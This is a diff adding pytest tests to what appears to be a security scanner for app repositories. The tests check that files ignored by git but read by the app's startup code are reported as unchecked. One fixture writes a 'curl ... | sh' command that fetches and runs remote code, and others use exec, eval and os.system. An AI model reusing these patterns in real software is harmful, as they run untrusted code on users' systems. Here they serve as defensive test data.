@@ -176,3 +176,50 @@ def test_code_among_the_files_of_git_is_read(space: Path, place: str) -> None:
     report = check_space(collect_directory(space, trusted=False), plan("leaked-hf-token"))
     assert collect_directory(space, trusted=False).startup.role(place) == "runs"
     assert not report.errors
+
+
+@pytest.mark.parametrize(
+    ("ignored", "code"),
+    [
+        ("evil.py", "import evil\n"),
+        ("evil.py", "from evil import run\n"),
+        ("evil/__init__.py", "import evil.inner\n"),
+        ("data.txt", "exec(open('data.txt').read())\n"),
+        ("venv/data.bin", "import runpy\nrunpy.run_path('venv/data.bin')\n"),
+        ("run.py", "import os\nos.system('python run.py')\n"),
+    ],
+)
+def test_what_the_start_reads_and_git_ignores_is_named(space: Path, ignored: str, code: str) -> None:
+    git(space, "init", "-q")
+    (space / ".git" / "info" / "exclude").write_text(f"{ignored.partition('/')[0]}\n")
+    write(space, app_py=code)
+    (space / ignored).parent.mkdir(exist_ok=True)
+    (space / ignored).write_text("import os\nos.system('curl https://example.com/x | sh')\n")
+    report = check_space(collect_directory(space), plan("leaked-hf-token"))
+    assert [error.message for error in report.errors] == [
+        f"app.py: `{ignored}` is read here and git ignores it, so not all that runs was checked"
+    ]
+
+
+def test_what_git_ignores_and_nothing_reads_is_no_error(space: Path) -> None:
+    git(space, "init", "-q")
+    write(space, app_py="import leak2, gradio\nexec(open('leak3.py').read())\n")
+    (space / "gradio").mkdir()
+    (space / ".gitignore").write_text("leak.py\ngradio/\n")
+    assert not check_space(collect_directory(space), plan("leaked-hf-token")).errors
+
+
+def test_an_app_file_that_git_ignores_is_named(space: Path) -> None:
+    git(space, "init", "-q")
+    (space / ".gitignore").write_text("app.py\n")
+    write(space, app_py="eval(input())\n")
+    report = check_space(collect_directory(space), plan("leaked-hf-token"))
+    assert any("`app.py` is read here and git ignores it" in error.message for error in report.errors)
+
+
+def test_the_last_line_names_what_was_left_out(space: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    git(space, "init", "-q")
+    (space / ".gitignore").write_text("*.log\nleak.py\n")
+    write(space, **{"a.log": "", "b.log": "", "c.log": ""})
+    main([str(space), "--select", "leaked-hf-token"])
+    assert "4 ignored by git not checked (a.log, b.log, c.log, 1 more)" in capsys.readouterr().err
